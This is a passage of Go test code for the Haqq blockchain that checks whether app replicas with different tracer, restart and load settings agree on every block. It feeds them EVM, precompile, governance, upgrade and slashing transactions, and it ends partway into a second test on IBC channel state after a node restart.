		baseFee = big.NewInt(0)
	}
	price := new(big.Int).Add(baseFee, big.NewInt(1_000_000_000))
	args := &evmtypes.EvmTxArgs{
		ChainID:  h.ref().app.EvmKeeper.ChainID(),
		Nonce:    nonce,
		To:       to,
		Amount:   amount,
		GasLimit: gas,
		Input:    data,
	}
	if dynamic {
		args.GasFeeCap = price
		args.GasTipCap = big.NewInt(1)
		args.Accesses = &ethtypes.AccessList{}
	} else {
		args.GasPrice = price
	}
	msg := evmtypes.NewTx(args)
	msg.From = acc.eth.Hex()
	signer := ethtypes.LatestSignerForChainID(h.ref().app.EvmKeeper.ChainID())
	require.NoError(h.t, msg.Sign(signer, utiltx.NewSigner(acc.priv)))
	return msg
}

func (h *zzHarness) ethTx(msgs ...*evmtypes.MsgEthereumTx) []byte {
	sdkMsgs := make([]sdk.Msg, len(msgs))
	for i := range msgs {
		sdkMsgs[i] = msgs[i]
	}
	tx, err := utiltx.PrepareEthTx(h.txCfg, h.ref().app, nil, sdkMsgs...)
	require.NoError(h.t, err)
	bz, err := h.txCfg.TxEncoder()(tx)
	require.NoError(h.t, err)
	return bz
}

// runBlock builds the transactions one at a time against the reference replica (gen is called with a deliver
// function), then replays the very same block on all the other replicas and compares every response.
func (h *zzHarness) runBlock(dt time.Duration, gen func(deliver func(bz []byte) abci.ResponseDeliverTx)) zzBlockResult {
	h.height++
	h.now = h.now.Add(dt)
	req := h.beginReq()

	ref := h.ref()
	var res zzBlockResult
	var txs [][]byte
	res.begin = ref.app.BeginBlock(req)
	if gen != nil {
		gen(func(bz []byte) abci.ResponseDeliverTx {
			r := ref.app.DeliverTx(abci.RequestDeliverTx{Tx: bz})
			txs = append(txs, bz)
			res.txs = append(res.txs, r)
			return r
		})
	}
	res.end = ref.app.EndBlock(abci.RequestEndBlock{Height: h.height})
	res.appHash = ref.app.Commit().Data

	for _, r := range h.replicas[1:] {
		if r.restart && h.height > 1 {
			r.build()
		}
		if r.noisy {
			for _, bz := range txs {
				r.app.CheckTx(abci.RequestCheckTx{Tx: bz, Type: abci.CheckTxType_New})
				_, _, _ = r.app.Simulate(bz)
			}
			r.app.PrepareProposal(abci.RequestPrepareProposal{Height: h.height, Time: h.now, Txs: txs, MaxTxBytes: 1 << 20, ProposerAddress: h.valAddr})
			r.app.ProcessProposal(abci.RequestProcessProposal{Height: h.height, Time: h.now, Txs: txs, Hash: req.Hash, ProposerAddress: h.valAddr})
		}
		var got zzBlockResult
		got.begin = r.app.BeginBlock(req)
		for i, bz := range txs {
			got.txs = append(got.txs, r.app.DeliverTx(abci.RequestDeliverTx{Tx: bz}))
			if r.noisy && i%2 == 0 {
				r.app.CheckTx(abci.RequestCheckTx{Tx: bz, Type: abci.CheckTxType_Recheck})
			}
		}
		got.end = r.app.EndBlock(abci.RequestEndBlock{Height: h.height})
		got.appHash = r.app.Commit().Data
		zzCompare(h.t, h.height, res, got, ref.name, r.name)
	}
	h.lastHash = res.appHash
	return res
}

func zzNewHarness(t *testing.T, replicas []*zzReplica, nAcc int) *zzHarness {
	h := &zzHarness{t: t, replicas: replicas, now: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)}
	h.txCfg = encoding.MakeConfig(app.ModuleBasics).TxConfig

	var tmVals []*tmtypes.Validator
	for i := 0; i < 3; i++ {
		pubKey, err := mock.NewPV().GetPubKey()
		require.NoError(t, err)
		tmVals = append(tmVals, tmtypes.NewValidator(pubKey, 1))
	}
	valSet := tmtypes.NewValidatorSet(tmVals)
	for _, v := range valSet.Validators {
		h.vals = append(h.vals, v.Address.Bytes())
	}
	h.absent = map[int]bool{}
	validator := valSet.Validators[0]
	h.valAddr = validator.Address.Bytes()
	h.valOper = sdk.ValAddress(validator.Address.Bytes())

	emptyCodeHash := crypto.Keccak256Hash(nil).String()
	var genAccs []authtypes.GenesisAccount
	var balances []banktypes.Balance
	for i := 0; i < nAcc; i++ {
		priv, err := ethsecp256k1.GenerateKey()
		require.NoError(t, err)
		addr := sdk.AccAddress(priv.PubKey().Address().Bytes())
		h.accs = append(h.accs, zzAcc{priv: priv, addr: addr, eth: common.BytesToAddress(addr)})
		genAccs = append(genAccs, &haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccount(addr, nil, 0, 0), CodeHash: emptyCodeHash})
		balances = append(balances, banktypes.Balance{Address: addr.String(), Coins: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.TokensFromConsensusPower(1_000_000, sdk.DefaultPowerReduction)))})
	}

	for _, r := range replicas {
		r.db = dbm.NewMemDB()
		r.build()
	}

	gs := app.NewDefaultGenesisState()
	gs = app.GenesisStateWithValSet(replicas[0].app, gs, valSet, genAccs, balances...)
	cdc := replicas[0].app.AppCodec()
	{
		// the helper funds the bonded pool for one validator only
		var bankGen banktypes.GenesisState
		cdc.MustUnmarshalJSON(gs["bank"], &bankGen)
		pool := authtypes.NewModuleAddress(stakingtypes.BondedPoolName).String()
		for i := range bankGen.Balances {
			if bankGen.Balances[i].Address == pool {
				bankGen.Balances[i].Coins = sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.DefaultPowerReduction.MulRaw(int64(len(h.vals)))))
			}
		}
		gs["bank"] = cdc.MustMarshalJSON(&bankGen)
	}

	// short voting period so that proposals can pass within the test
	var govGen govv1.GenesisState
	cdc.MustUnmarshalJSON(gs["gov"], &govGen)
	vp := 10 * time.Second
	govGen.Params.VotingPeriod = &vp
	govGen.Params.MinDeposit = sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1000)))
	gs["gov"] = cdc.MustMarshalJSON(&govGen)

	var slashGen slashingtypes.GenesisState
	cdc.MustUnmarshalJSON(gs["slashing"], &slashGen)
	for _, v := range h.vals {
		consAddr := sdk.ConsAddress(v)
		slashGen.SigningInfos = append(slashGen.SigningInfos, slashingtypes.SigningInfo{
			Address:              consAddr.String(),
			ValidatorSigningInfo: slashingtypes.NewValidatorSigningInfo(consAddr, 0, 0, time.Unix(0, 0).UTC(), false, 0),
		})
	}
	slashGen.Params.SignedBlocksWindow = 4
	slashGen.Params.MinSignedPerWindow = sdk.NewDecWithPrec(75, 2)
	gs["slashing"] = cdc.MustMarshalJSON(&slashGen)

	stateBytes, err := json.MarshalIndent(gs, "", " ")
	require.NoError(t, err)
	cp := *app.DefaultConsensusParams
	cp.Block = &tmproto.BlockParams{MaxBytes: 2000000, MaxGas: 40_000_000}
	for _, r := range replicas {
		r.app.InitChain(abci.RequestInitChain{
			Time:            h.now,
			ChainId:         zzChainID,
			Validators:      []abci.ValidatorUpdate{},
			ConsensusParams: &cp,
			AppStateBytes:   stateBytes,
			InitialHeight:   1,
		})
	}
	return h
}

var _ = stakingtypes.ModuleName

func zzLoadABI(t *testing.T, path string) abi.ABI {
	bz, err := os.ReadFile(path)
	require.NoError(t, err)
	var wrapped struct {
		ABI json.RawMessage `json:"abi"`
	}
	if err := json.Unmarshal(bz, &wrapped); err == nil && len(wrapped.ABI) > 0 {
		bz = wrapped.ABI
	}
	res, err := abi.JSON(bytes.NewReader(bz))
	require.NoError(t, err)
	return res
}

func TestZZReplicasAgree(t *testing.T) {
	devnull, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	realStdout := os.Stdout
	os.Stdout, os.Stderr = devnull, devnull // the json / markdown / struct loggers write there
	defer func() { os.Stdout = realStdout }()
	out := func(format string, args ...interface{}) { fmt.Fprintf(realStdout, format, args...) }
	replicas := []*zzReplica{
		{name: "A-default", opts: zzOpts{}, invPeriod: 0},
		{name: "B-struct-tracer", opts: zzOpts{"evm.tracer": "struct"}, invPeriod: 1},
		{name: "C-restarted", opts: zzOpts{}, restart: true, invPeriod: 0},
		{name: "D-noisy", opts: zzOpts{"evm.max-tx-gas-wanted": uint64(500000)}, noisy: true, invPeriod: 3},
		{name: "E-access-list-restart", opts: zzOpts{"evm.tracer": "access_list"}, restart: true, noisy: true},
		{name: "F-json-tracer", opts: zzOpts{"evm.tracer": "json"}, restart: true},
		{name: "G-markdown-tracer", opts: zzOpts{"evm.tracer": "markdown"}, noisy: true, invPeriod: 2},
	}
	h := zzNewHarness(t, replicas, 6)
	a := h.accs
	fee := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1e16)))
	one := sdk.TokensFromConsensusPower(1, sdk.DefaultPowerReduction)
	show := func(tag string, r abci.ResponseDeliverTx) {
		vmErr := ""
		if r.Code == 0 {
			var txData sdk.TxMsgData
			if err := h.ref().app.AppCodec().Unmarshal(r.Data, &txData); err == nil {
				for _, mr := range txData.MsgResponses {
					if mr.TypeUrl == "/ethermint.evm.v1.MsgEthereumTxResponse" {
						var res evmtypes.MsgEthereumTxResponse
						if err := proto.Unmarshal(mr.Value, &res); err == nil && res.VmError != "" {
							vmErr += " vmErr=" + res.VmError
						}
					}
				}
			}
		}
		out("  [%s] code=%d gasUsed=%d gasWanted=%d%s log=%.160s\n", tag, r.Code, r.GasUsed, r.GasWanted, vmErr, r.Log)
	}

	// block 1: empty
	h.runBlock(time.Second, nil)

	// block 2: bank sends, junk, staking
	h.runBlock(2*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
		r := deliver(h.signCosmos(a[0], 200000, fee, signing.SignMode_SIGN_MODE_DIRECT, banktypes.NewMsgSend(a[0].addr, a[1].addr, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one)))))
		require.Equal(t, uint32(0), r.Code, r.Log)
		deliver([]byte("junk bytes that do not decode"))
		r = deliver(h.signCosmos(a[1], 400000, fee, signing.SignMode_SIGN_MODE_DIRECT, stakingtypes.NewMsgDelegate(a[1].addr, h.valOper, sdk.NewCoin(utils.BaseDenom, one.MulRaw(10)))))
		require.Equal(t, uint32(0), r.Code, r.Log)
		deliver([]byte{})
		// failing in ante (too little gas)
		deliver(h.signCosmos(a[2], 10, fee, signing.SignMode_SIGN_MODE_DIRECT, banktypes.NewMsgSend(a[2].addr, a[1].addr, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one)))))
		// amino json sign mode
		r = deliver(h.signCosmos(a[3], 200000, fee, signing.SignMode_SIGN_MODE_LEGACY_AMINO_JSON, banktypes.NewMsgSend(a[3].addr, a[4].addr, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one)))))
		require.Equal(t, uint32(0), r.Code, r.Log)
	})

	// block 3: EVM: deploy ERC20, staking caller, distribution caller; plain transfers
	var erc20Addr, stakingCaller, distCaller common.Address
	h.runBlock(2*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
		ctorArgs, err := contracts.ERC20MinterBurnerDecimalsContract.ABI.Pack("", "Token", "TKN", uint8(18))
		require.NoError(t, err)
		data := append(append([]byte{}, contracts.ERC20MinterBurnerDecimalsContract.Bin...), ctorArgs...)
		nonce := h.ref().app.EvmKeeper.GetNonce(h.refCtx(), a[0].eth)
		erc20Addr = crypto.CreateAddress(a[0].eth, nonce)
		r := deliver(h.ethTx(h.ethMsg(a[0], 0, nil, nil, 8_000_000, data, true)))
		show("deploy erc20", r)
		require.Equal(t, uint32(0), r.Code, r.Log)

		nonce = h.ref().app.EvmKeeper.GetNonce(h.refCtx(), a[1].eth)
		stakingCaller = crypto.CreateAddress(a[1].eth, nonce)
		r = deliver(h.ethTx(h.ethMsg(a[1], 0, nil, nil, 9_000_000, stakingtestdata.StakingCallerContract.Bin, false)))
		show("deploy staking caller", r)
		require.Equal(t, uint32(0), r.Code, r.Log)

		nonce = h.ref().app.EvmKeeper.GetNonce(h.refCtx(), a[2].eth)
		distCaller = crypto.CreateAddress(a[2].eth, nonce)
		r = deliver(h.ethTx(h.ethMsg(a[2], 0, nil, nil, 9_000_000, testcontracts.DistributionCallerContract.Bin, true)))
		show("deploy dist caller", r)
		require.Equal(t, uint32(0), r.Code, r.Log)

		// plain value transfer, and one with too low gas
		r = deliver(h.ethTx(h.ethMsg(a[3], 0, &a[4].eth, big.NewInt(12345), 21000, nil, true)))
		require.Equal(t, uint32(0), r.Code, r.Log)
		deliver(h.ethTx(h.ethMsg(a[3], 0, &a[4].eth, big.NewInt(12345), 20000, nil, true)))
		// multi message eth tx
		r = deliver(h.ethTx(h.ethMsg(a[4], 0, &a[5].eth, big.NewInt(1), 21000, nil, true), h.ethMsg(a[4], 1, &a[5].eth, big.NewInt(2), 21000, nil, false)))
		require.Equal(t, uint32(0), r.Code, r.Log)
	})
	_, _ = distCaller, stakingCaller

	// block 4: ERC20 mint/transfer (SLOAD/SSTORE), an out-of-gas call, precompile calls from EOA and from contract
	h.runBlock(2*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
		erc20 := contracts.ERC20MinterBurnerDecimalsContract.ABI
		data, err := erc20.Pack("mint", a[0].eth, big.NewInt(1_000_000))
		require.NoError(t, err)
		r := deliver(h.ethTx(h.ethMsg(a[0], 0, &erc20Addr, nil, 200_000, data, true)))
		show("mint", r)
		require.Equal(t, uint32(0), r.Code, r.Log)
		data, err = erc20.Pack("transfer", a[1].eth, big.NewInt(1000))
		require.NoError(t, err)
		r = deliver(h.ethTx(h.ethMsg(a[0], 0, &erc20Addr, nil, 200_000, data, false)))
		require.Equal(t, uint32(0), r.Code, r.Log)
		// runs out of gas in the middle of the transfer
		for g := uint64(21_500); g < 60_000; g += 700 {
			deliver(h.ethTx(h.ethMsg(a[0], 0, &erc20Addr, nil, g, data, true)))
		}
		// reverting transfer (insufficient balance)
		data, err = erc20.Pack("transfer", a[1].eth, big.NewInt(1_000_000_000))
		require.NoError(t, err)
		deliver(h.ethTx(h.ethMsg(a[2], 0, &erc20Addr, nil, 200_000, data, true)))

	})

	stakingABI, err := stakingprecompile.LoadABI()
	require.NoError(t, err)
	distABI := zzLoadABI(t, "../precompiles/distribution/abi.json")
	bankABI := zzLoadABI(t, "../precompiles/bank/abi.json")
	stakingAddr := common.HexToAddress(stakingprecompile.PrecompileAddress)
	distAddr := common.HexToAddress("0x0000000000000000000000000000000000000801")
	bankAddr := common.HexToAddress(bankprecompile.PrecompileAddress)
	callerABI := stakingtestdata.StakingCallerContract.ABI
	distCallerABI := testcontracts.DistributionCallerContract.ABI

	// block 5: precompiles
	h.runBlock(2*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
		data, err := stakingABI.Pack("delegate", a[1].eth, h.valOper.String(), one.MulRaw(5).BigInt())
		require.NoError(t, err)
		r := deliver(h.ethTx(h.ethMsg(a[1], 0, &stakingAddr, nil, 500_000, data, true)))
		show("precompile delegate", r)
		require.Equal(t, uint32(0), r.Code, r.Log)
		for _, g := range []uint64{30_000, 50_000, 80_000, 120_000} {
			show("precompile delegate low gas", deliver(h.ethTx(h.ethMsg(a[1], 0, &stakingAddr, nil, g, data, true))))
		}
		data, err = distABI.Pack("withdrawDelegatorRewards", a[1].eth, h.valOper.String())
		require.NoError(t, err)
		show("withdraw rewards", deliver(h.ethTx(h.ethMsg(a[1], 0, &distAddr, nil, 500_000, data, false))))
		data, err = distABI.Pack("claimRewards", a[1].eth, uint32(5))
		require.NoError(t, err)
		show("claim rewards", deliver(h.ethTx(h.ethMsg(a[1], 0, &distAddr, nil, 500_000, data, false))))
		data, err = bankABI.Pack("balances", a[0].eth)
		require.NoError(t, err)
		show("bank balances", deliver(h.ethTx(h.ethMsg(a[2], 0, &bankAddr, nil, 500_000, data, false))))
		show("short calldata", deliver(h.ethTx(h.ethMsg(a[2], 0, &stakingAddr, nil, 500_000, []byte{1, 2}, false))))
		show("value to precompile", deliver(h.ethTx(h.ethMsg(a[2], 0, &stakingAddr, big.NewInt(5), 500_000, nil, false))))

		// approve the caller contract then delegate through it
		data, err = stakingABI.Pack("approve", stakingCaller, one.MulRaw(100).BigInt(), []string{"/cosmos.staking.v1beta1.MsgDelegate", "/cosmos.staking.v1beta1.MsgUndelegate"})
		require.NoError(t, err)
		show("approve", deliver(h.ethTx(h.ethMsg(a[2], 0, &stakingAddr, nil, 500_000, data, true))))
		data, err = callerABI.Pack("testDelegate", a[2].eth, h.valOper.String(), one.MulRaw(3).BigInt())
		require.NoError(t, err)
		show("caller delegate", deliver(h.ethTx(h.ethMsg(a[2], 0, &stakingCaller, nil, 800_000, data, true))))
		for g := uint64(30_000); g < 300_000; g += 9_000 {
			deliver(h.ethTx(h.ethMsg(a[2], 0, &stakingCaller, nil, g, data, true)))
		}
		data, err = callerABI.Pack("testDelegateIncrementCounter", h.valOper.String(), one.MulRaw(1).BigInt())
		if err == nil {
			show("caller delegate+counter", deliver(h.ethTx(h.ethMsg(a[2], 0, &stakingCaller, one.MulRaw(2).BigInt(), 800_000, data, true))))
		}
		data, err = callerABI.Pack("getValidators", "BOND_STATUS_BONDED", struct {
			Key        []byte
			Offset     uint64
			Limit      uint64
			CountTotal bool
			Reverse    bool
		}{Limit: 10})
		if err == nil {
			show("caller validators", deliver(h.ethTx(h.ethMsg(a[3], 0, &stakingCaller, nil, 800_000, data, true))))
		} else {
			out("pack getValidators: %v\n", err)
		}
		data, err = distCallerABI.Pack("testClaimRewards", a[2].eth, uint32(3))
		if err == nil {
			show("dist caller claim", deliver(h.ethTx(h.ethMsg(a[2], 0, &distCaller, nil, 800_000, data, true))))
		}
	})

	// block 6: governance: register the ERC20, vote
	var proposalID uint64 = 1
	h.runBlock(2*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
		content := erc20types.NewRegisterERC20Proposal("reg", "register token", erc20Addr.Hex())
		msg, err := govv1beta1.NewMsgSubmitProposal(content, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1000))), a[0].addr)
		require.NoError(t, err)
		r := deliver(h.signCosmos(a[0], 2_000_000, fee.Add(fee...), signing.SignMode_SIGN_MODE_DIRECT, msg))
		show("submit proposal", r)
		require.Equal(t, uint32(0), r.Code, r.Log)
		r = deliver(h.signCosmos(a[1], 400_000, fee, signing.SignMode_SIGN_MODE_DIRECT, govv1beta1.NewMsgVote(a[1].addr, proposalID, govv1beta1.OptionYes)))
		show("vote", r)
		require.Equal(t, uint32(0), r.Code, r.Log)
		deliver(h.signCosmos(a[2], 400_000, fee, signing.SignMode_SIGN_MODE_DIRECT, govv1beta1.NewMsgVote(a[2].addr, proposalID, govv1beta1.OptionYes)))
		deliver(h.signCosmos(a[0], 400_000, fee, signing.SignMode_SIGN_MODE_DIRECT, govv1beta1.NewMsgVote(a[0].addr, proposalID, govv1beta1.OptionYes)))
		// community pool spend proposal is refused by the haqq ante handler
		cps := &distrtypes.CommunityPoolSpendProposal{Title: "x", Description: "y", Recipient: a[0].addr.String(), Amount: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1)))}
		msg, err = govv1beta1.NewMsgSubmitProposal(cps, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1000))), a[0].addr)
		require.NoError(t, err)
		show("community spend", deliver(h.signCosmos(a[0], 2_000_000, fee.Add(fee...), signing.SignMode_SIGN_MODE_DIRECT, msg)))
		// vesting
		lock := sdkvesting.Periods{{Length: 3600, Amount: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one.MulRaw(5000)))}}
		vest := sdkvesting.Periods{{Length: 1, Amount: sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one.MulRaw(5000)))}}
		show("convert into vesting", deliver(h.signCosmos(a[3], 1_000_000, fee.Add(fee...), signing.SignMode_SIGN_MODE_DIRECT,
			vestingtypes.NewMsgConvertIntoVestingAccount(a[3].addr, a[5].addr, h.now.Add(-time.Minute), lock, vest, true, false, nil))))
		show("dao fund", deliver(h.signCosmos(a[4], 400_000, fee, signing.SignMode_SIGN_MODE_DIRECT, ucdaotypes.NewMsgFund(sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one.MulRaw(7))), a[4].addr))))
	})
	h.runBlock(6*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
		show("liquidate", deliver(h.signCosmos(a[5], 12_000_000, fee.Add(fee...).Add(fee...), signing.SignMode_SIGN_MODE_DIRECT,
			liquidvestingtypes.NewMsgLiquidate(a[5].addr, a[4].addr, sdk.NewCoin(utils.BaseDenom, one.MulRaw(2000))))))
		show("dao transfer", deliver(h.signCosmos(a[4], 400_000, fee, signing.SignMode_SIGN_MODE_DIRECT, ucdaotypes.NewMsgTransferOwnership(a[4].addr, a[3].addr))))
		// eth tx from the vesting account
		show("vesting acc eth", deliver(h.ethTx(h.ethMsg(a[5], 0, &a[4].eth, one.MulRaw(1).BigInt(), 21000, nil, true))))
	})
	{
		res := h.runBlock(6*time.Second, nil) // voting period ends here
		out("  end block events at %d: %.1500s\n", h.height, zzStripEvents(res.end.Events))
	}
	h.runBlock(2*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
		pairs := h.ref().app.Erc20Keeper.GetTokenPairs(h.refCtx())
		out("  token pairs: %d\n", len(pairs))
		for _, g := range []uint64{3_000_000, 1_000_000, 600_000, 400_000, 300_000, 200_000} {
			show(fmt.Sprintf("convert erc20 gas %d", g), deliver(h.signCosmos(a[0], g, fee.Add(fee...).Add(fee...), signing.SignMode_SIGN_MODE_DIRECT,
				erc20types.NewMsgConvertERC20(sdkmath.NewInt(500), a[0].addr, erc20Addr, a[0].eth))))
		}
		for _, p := range pairs {
			show("convert coin", deliver(h.signCosmos(a[0], 3_000_000, fee.Add(fee...).Add(fee...), signing.SignMode_SIGN_MODE_DIRECT,
				erc20types.NewMsgConvertCoin(sdk.NewCoin(p.Denom, sdkmath.NewInt(100)), a[1].eth, a[0].addr))))
			show("bank send of erc20 coin", deliver(h.signCosmos(a[0], 3_000_000, fee.Add(fee...).Add(fee...), signing.SignMode_SIGN_MODE_DIRECT,
				banktypes.NewMsgSend(a[0].addr, a[2].addr, sdk.NewCoins(sdk.NewCoin(p.Denom, sdkmath.NewInt(50)))))))
		}
		{
			// EVM hook: sending registered tokens to the erc20 module address converts them
			data, err := contracts.ERC20MinterBurnerDecimalsContract.ABI.Pack("transfer", erc20types.ModuleAddress, big.NewInt(77))
			require.NoError(t, err)
			show("evm hook transfer", deliver(h.ethTx(h.ethMsg(a[0], 0, &erc20Addr, nil, 300_000, data, true))))
			for g := uint64(22_000); g < 120_000; g += 2_300 {
				deliver(h.ethTx(h.ethMsg(a[0], 0, &erc20Addr, nil, g, data, true)))
			}
		}
		liq := h.ref().app.LiquidVestingKeeper.GetAllDenoms(h.refCtx())
		for _, d := range liq {
			show("redeem", deliver(h.signCosmos(a[4], 3_000_000, fee.Add(fee...).Add(fee...), signing.SignMode_SIGN_MODE_DIRECT,
				liquidvestingtypes.NewMsgRedeem(a[4].addr, a[2].addr, sdk.NewCoin(d.BaseDenom, one.MulRaw(100))))))
		}
	})

	// software upgrade through governance: the v1.8.2 handler runs on every replica, also on the restarted ones
	{
		upgradeHeight := h.height + 5
		h.runBlock(2*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
			content := upgradetypes.NewSoftwareUpgradeProposal("up", "upgrade", upgradetypes.Plan{Name: "v1.8.2", Height: upgradeHeight})
			msg, err := govv1beta1.NewMsgSubmitProposal(content, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1000))), a[0].addr)
			require.NoError(t, err)
			r := deliver(h.signCosmos(a[0], 2_000_000, fee.Add(fee...), signing.SignMode_SIGN_MODE_DIRECT, msg))
			show("submit upgrade", r)
			require.Equal(t, uint32(0), r.Code, r.Log)
			for _, v := range []zzAcc{a[0], a[1], a[2]} {
				r = deliver(h.signCosmos(v, 400_000, fee, signing.SignMode_SIGN_MODE_DIRECT, govv1beta1.NewMsgVote(v.addr, 2, govv1beta1.OptionYes)))
				require.Equal(t, uint32(0), r.Code, r.Log)
			}
		})
		for h.height < upgradeHeight+1 {
			res := h.runBlock(4*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
				deliver([]byte("junk"))
				deliver(h.signCosmos(a[0], 200000, fee, signing.SignMode_SIGN_MODE_DIRECT, banktypes.NewMsgSend(a[0].addr, a[1].addr, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one)))))
			})
			if h.height == upgradeHeight {
				out("  begin block events at upgrade height %d: %.300s\n", h.height, zzStripEvents(res.begin.Events))
			}
		}
		plan, found := h.ref().app.UpgradeKeeper.GetUpgradePlan(h.ref().app.BaseApp.NewContext(true, tmproto.Header{}))
		out("  plan still pending: %v %v; done height: %d\n", found, plan.Name, h.ref().app.UpgradeKeeper.GetDoneHeight(h.ref().app.BaseApp.NewContext(true, tmproto.Header{}), "v1.8.2"))
	}

	// validator 2 stops signing (gets jailed for downtime), validator 1 double signs
	h.absent[2] = true
	for i := 0; i < 6; i++ {
		if i == 2 {
			h.evidence = []abci.Misbehavior{{Type: abci.MisbehaviorType_DUPLICATE_VOTE, Validator: abci.Validator{Address: h.vals[1], Power: 1}, Height: h.height - 1, Time: h.now, TotalVotingPower: 3}}
		}
		res := h.runBlock(3*time.Second, func(deliver func([]byte) abci.ResponseDeliverTx) {
			show("send", deliver(h.signCosmos(a[0], 200000, fee, signing.SignMode_SIGN_MODE_DIRECT, banktypes.NewMsgSend(a[0].addr, a[1].addr, sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, one))))))
		})
		out("  height %d validator updates: %d\n", h.height, len(res.end.ValidatorUpdates))
	}
	for i := 0; i < 3; i++ {
		h.runBlock(3*time.Second, nil)
	}
	out("final height %d\n", h.height)
}
