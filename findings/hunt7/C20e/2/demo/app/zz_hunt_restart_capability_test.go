package app_test

import (
	"encoding/json"
	"math/rand"
	"testing"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	"github.com/cosmos/cosmos-sdk/baseapp"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	channeltypes "github.com/cosmos/ibc-go/v7/modules/core/04-channel/types"
	host "github.com/cosmos/ibc-go/v7/modules/core/24-host"
	ibcgotesting "github.com/cosmos/ibc-go/v7/testing"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	haqqibctesting "github.com/haqq-network/haqq/ibc/testing"
	"github.com/haqq-network/haqq/utils"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
)

// TestZZHuntRestartedNodeKnowsItsIBCChannels opens an IBC transfer channel between a Haqq chain and a
// counterparty, then opens a second Haqq application on the Haqq chain's database (a restart at the block
// boundary) and asks both applications
//   - to simulate (gas estimation endpoint) the same signed MsgTransfer over that channel, and
//   - to check (mempool admission) the same signed relayer transaction carrying a MsgRecvPacket.
//
// Property C20: the restarted node behaves exactly like the node that never stopped.
func TestZZHuntRestartedNodeKnowsItsIBCChannels(t *testing.T) {
	// remember the database of every Haqq chain the IBC testing package builds
	dbs := map[string]dbm.DB{}
	origInit := haqqibctesting.DefaultTestingAppInit
	defer func() { haqqibctesting.DefaultTestingAppInit = origInit }()
	newApp := func(chainID string, db dbm.DB) *app.Haqq {
		return app.NewHaqq(
			log.NewNopLogger(), db, nil, true, map[int64]bool{},
			app.DefaultNodeHome, 5, encoding.MakeConfig(app.ModuleBasics),
			simtestutil.NewAppOptionsWithFlagHome(app.DefaultNodeHome),
			baseapp.SetChainID(chainID),
		)
	}
	haqqibctesting.DefaultTestingAppInit = func(chainID string) func() (ibcgotesting.TestingApp, map[string]json.RawMessage) {
		return func() (ibcgotesting.TestingApp, map[string]json.RawMessage) {
			db := dbm.NewMemDB()
			dbs[chainID] = db
			return newApp(chainID, db), app.NewDefaultGenesisState()
		}
	}

	coord := haqqibctesting.NewCoordinator(t, 1, 1)
	haqqChain := coord.GetChain(ibcgotesting.GetChainID(1))
	otherChain := coord.GetChain(ibcgotesting.GetChainID(2))
	running := haqqChain.App.(*app.Haqq)

	// money for the fees of the handshake
	coins := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1000, 18)))
	require.NoError(t, running.BankKeeper.MintCoins(haqqChain.GetContext(), coinomicstypes.ModuleName, coins))
	require.NoError(t, running.BankKeeper.SendCoinsFromModuleToAccount(haqqChain.GetContext(), coinomicstypes.ModuleName, haqqChain.SenderAccount.GetAddress(), coins))
	coord.CommitNBlocks(haqqChain, 1)

	path := haqqibctesting.NewTransferPath(haqqChain, otherChain)
	haqqibctesting.SetupPath(coord, path)
	require.Equal(t, channeltypes.OPEN, path.EndpointA.GetChannel().State)

	// a packet from the counterparty to the Haqq chain, committed there and provable on the Haqq chain
	transferBack := transfertypes.NewMsgTransfer(
		path.EndpointB.ChannelConfig.PortID, path.EndpointB.ChannelID,
		sdk.NewInt64Coin(sdk.DefaultBondDenom, 7),
		otherChain.SenderAccount.GetAddress().String(), haqqChain.SenderAccount.GetAddress().String(),
		haqqChain.GetTimeoutHeight(), 0, "",
	)
	res, err := otherChain.SendMsgs(transferBack)
	require.NoError(t, err)
	packet, err := ibcgotesting.ParsePacketFromEvents(res.GetEvents())
	require.NoError(t, err)
	require.NoError(t, path.EndpointA.UpdateClient())
	coord.CommitNBlocks(haqqChain, 1)

	proof, proofHeight := otherChain.QueryProof(host.PacketCommitmentKey(packet.GetSourcePort(), packet.GetSourceChannel(), packet.GetSequence()))
	recvMsg := channeltypes.NewMsgRecvPacket(packet, proof, proofHeight, haqqChain.SenderAccount.GetAddress().String())

	transferOut := transfertypes.NewMsgTransfer(
		path.EndpointA.ChannelConfig.PortID, path.EndpointA.ChannelID,
		sdk.NewInt64Coin(utils.BaseDenom, 1000),
